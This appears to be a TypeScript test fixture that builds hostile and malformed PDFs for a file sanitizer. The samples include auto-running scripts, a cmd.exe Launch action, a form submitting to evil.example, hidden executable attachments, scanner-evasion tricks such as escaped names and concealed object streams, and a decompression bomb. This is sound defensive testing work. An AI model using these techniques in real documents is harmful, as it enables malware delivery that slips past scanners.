import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from 'pdf-lib'
import { aPdf } from './sample-files.ts'

type Entries = Record<string, unknown>
type Literal = Parameters<PDFDocument['context']['obj']>[0]

/** A valid document with additional entries in its catalogue, saved with or without object streams. */
async function withCatalog(
  entries: (document: PDFDocument) => Entries,
  { useObjectStreams = true }: { useObjectStreams?: boolean } = {},
): Promise<Uint8Array> {
  const document = await PDFDocument.create()
  document.addPage([200, 200])
  for (const [key, value] of Object.entries(entries(document))) {
    document.catalog.set(PDFName.of(key), document.context.register(document.context.obj(value as Literal)))
  }
  return document.save({ useObjectStreams })
}

const script = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') }

/** A page whose annotation triggers an action when pressed. */
async function withAction(action: Entries): Promise<Uint8Array> {
  const document = await PDFDocument.create()
  const page = document.addPage([200, 200])
  const annotation = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 200, 200], A: action }
  page.node.set(PDFName.of('Annots'), document.context.obj([annotation] as Literal))
  return document.save()
}

async function withAttachment(): Promise<Uint8Array> {
  const document = await PDFDocument.create()
  document.addPage([200, 200])
  await document.attach(Buffer.from('MZ'), 'invoice.exe')
  return document.save()
}

/** An embedded file whose stream is not marked as one: only the file specification that refers to it reveals it. */
function withUnmarkedAttachment(): Promise<Uint8Array> {
  return withCatalog(({ context }) => {
    const file = context.register(context.flateStream('MZ'))
    return { AF: [{ Type: 'Filespec', F: PDFString.of('a.exe'), EF: { F: file } }] }
  })
}

async function withLaterRevision(): Promise<Uint8Array> {
  // The script is in the first revision; a second one replaces the object, and a reader may still open the first.
  const first = Buffer.from(await withCatalog(() => ({ OpenAction: script }), { useObjectStreams: false }))
  const number = /(\d+) 0 obj\s*<<\s*\/S \/JavaScript/.exec(first.toString('latin1'))?.[1]
  return Buffer.concat([first, Buffer.from(`\n${number} 0 obj\n<< /S /GoTo >>\nendobj\nstartxref\n9\n%%EOF\n`)])
}

/** Raw bytes, for content that no library would write. */
function byHand(objects: string[], more = ''): Uint8Array {
  const page = [
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 9 0 R >>\nendobj',
    '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj',
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj',
  ]
  const text = ['%PDF-1.7', ...page, ...objects, `trailer\n<< /Root 1 0 R /Size 20 ${more}>>`, 'startxref\n9\n%%EOF\n']
  return Buffer.from(text.join('\n'), 'latin1')
}

function stream(number: number, entries: string, bytes: Buffer): string {
  const head = `${number} 0 obj\n<< ${entries} /Length ${bytes.length} >>\nstream\n`
  return `${head}${bytes.toString('latin1')}\nendstream\nendobj`
}

const hidden = '<< /S /JavaScript /JS (app.alert(1)) >>'
const box = deflateSync(Buffer.from(`9 0 ${hidden}`))

export const hostilePdfs: Record<string, () => Promise<Uint8Array> | Uint8Array> = {
  'a script that runs on opening': () => withCatalog(() => ({ OpenAction: script }), { useObjectStreams: false }),
  'a script inside an object stream': () => withCatalog(() => ({ OpenAction: script })),
  'a named script': () => withCatalog(() => ({ Names: { JavaScript: { Names: [PDFString.of('a'), script] } } })),
  'a script on leaving a page': () => withCatalog(() => ({ AA: { WC: script } })),
  'an address that opens by itself': () =>
    withCatalog(() => ({ OpenAction: { S: 'URI', URI: PDFString.of('https://evil.example') } })),
  'another file that opens by itself': () =>
    withCatalog(() => ({ OpenAction: { S: 'GoToR', F: PDFString.of('//evil.example/a.pdf') } })),
  'an address that opens with a page': () =>
    withCatalog(() => ({ AA: { O: { S: 'URI', URI: PDFString.of('https://evil.example') } } })),
  'an address that opens after a harmless jump': () =>
    withCatalog(() => ({
      OpenAction: { S: 'GoTo', D: [0, 'Fit'], Next: { S: 'URI', URI: PDFString.of('https://evil.example') } },
    })),
  'a program to launch': () => withAction({ S: 'Launch', F: PDFString.of('cmd.exe') }),
  'a form to send': () => withAction({ S: 'SubmitForm', F: PDFString.of('https://evil.example') }),
  'data to import': () => withAction({ S: 'ImportData', F: PDFString.of('a.fdf') }),
  'a jump into an attached file': () => withAction({ S: 'GoToE', T: { R: 'C' } }),
  'an attached file': withAttachment,
  'an attached file that does not say so': withUnmarkedAttachment,
  'the document it was made from inside': () => byHand([], '/AdditionalStreams [/application#2Fx-odt 8 0 R] '),
  'a form of another kind on top': () =>
    withCatalog(({ context }) => ({ AcroForm: { Fields: [], XFA: context.register(context.flateStream('<xdp/>')) } })),
  'a film': () => withCatalog(() => ({ Extra: { Type: 'Annot', Subtype: 'RichMedia' } })),
  'a script that a later revision hides': withLaterRevision,
  'a name with escapes': () => byHand(['9 0 obj\n<< /S /J#61va#53cript /#4aS (app.alert(1)) >>\nendobj']),
  'a name with escapes in lower case': () => byHand(['9 0 obj\n<< /S /Javascrip#74 /#4a#53 (app.alert(1)) >>\nendobj']),
  'a script in the trailer': () => byHand([], `/Info ${hidden} `),
  'an object stream whose type comes later': () =>
    byHand([stream(8, '/Type 7 0 R /N 1 /First 4 /Filter /FlateDecode', box), '7 0 obj\n/ObjStm\nendobj']),
  'an object stream whose type is escaped': () =>
    byHand([stream(8, '/Type /ObjSt#6d /N 1 /First 4 /Filter /FlateDecode', box)]),
  'an object stream whose count comes from elsewhere': () =>
    byHand(['7 0 obj\n0\nendobj', stream(8, '/Type /ObjStm /N 7 0 R /First 4 /Filter /FlateDecode', box)]),
  'an object inside a stream, where a table may point': () =>
    byHand([stream(8, '', Buffer.from(`9 0 obj\n${hidden}\nendobj`))]),
  'an object inside a stream, with a comment in its head': () =>
    byHand([stream(8, '', Buffer.from(`9 %\n0%\nobj\n${hidden}\nendobj`))]),
  'an object inside a stream, with no gap in its head': () =>
    byHand([stream(8, '', Buffer.from('9 0obj<</S/J#61vaScript/JS(app.alert(1))>>endobj'))]),
  'a script between its objects': () => byHand([`9 0 oobj\n${hidden}\nendobj`]),
  'an object inside a string': () => byHand([`8 0 obj\n(9 0 obj ${hidden} endobj)\nendobj`]),
}

export const brokenPdfs: Record<string, () => Promise<Uint8Array> | Uint8Array> = {
  'its first line only': () => Buffer.from('%PDF-1.7\n'),
  'its first half': async () => (await aPdf({ pages: 3 })).subarray(0, 700),
  noise: () => Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(20_000, 0xa7)]),
  'no pages': () => Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF'),
  'brackets a million deep': () => byHand([`9 0 obj\n${'['.repeat(1_000_000)}\nendobj`]),
  'an object stream that swells a thousandfold': () =>
    byHand([
      stream(8, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(200_000_000, '1 '))),
    ]),
}
